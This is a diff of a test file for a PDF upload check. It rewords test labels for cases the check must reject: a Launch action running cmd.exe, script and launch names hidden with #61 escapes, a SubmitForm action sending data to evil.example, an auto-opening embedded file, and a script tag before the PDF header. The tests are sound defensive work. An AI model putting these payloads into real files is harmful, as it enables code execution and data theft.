@@ -13,15 +13,11 @@ it.each([
   ['a launch action', pdf('<< /S /Launch /F (cmd.exe) >>'), /carries a program/],
   ['a script with an escaped name', pdf('<< /S /J#61vaScript >>'), /carries a program/],
   ['a launch action with an escaped name', pdf('<< /S /L#61unch >>'), /carries a program/],
-  [
-    'a form that is submitted to another host',
-    pdf('<< /S /SubmitForm /F (https://evil.example) >>'),
-    /carries a program/,
-  ],
-  ['an embedded file that is opened', pdf('<< /S /GoToE >>'), /carries a program/],
+  ['a form that submits to another host', pdf('<< /S /SubmitForm /F (https://evil.example) >>'), /carries a program/],
+  ['an embedded file that opens on its own', pdf('<< /S /GoToE >>'), /carries a program/],
   ['an HTML page before the PDF', Buffer.concat([Buffer.from('<script>alert(1)</script>'), pdf()]), /no whole PDF/],
   ['a file that is too large', Buffer.concat([pdf(), Buffer.alloc(maxDocumentBytes), pdf()]), /10 MB/],
-])('the document check rejects a file with the reason: %s', (_, file, why) => {
+])('the document check rejects a file and names the reason (file: %s)', (_, file, why) => {
   expect(findDocumentError(file)).toMatch(why)
 })
 it('the document check accepts a PDF with other bytes before its header', () => {
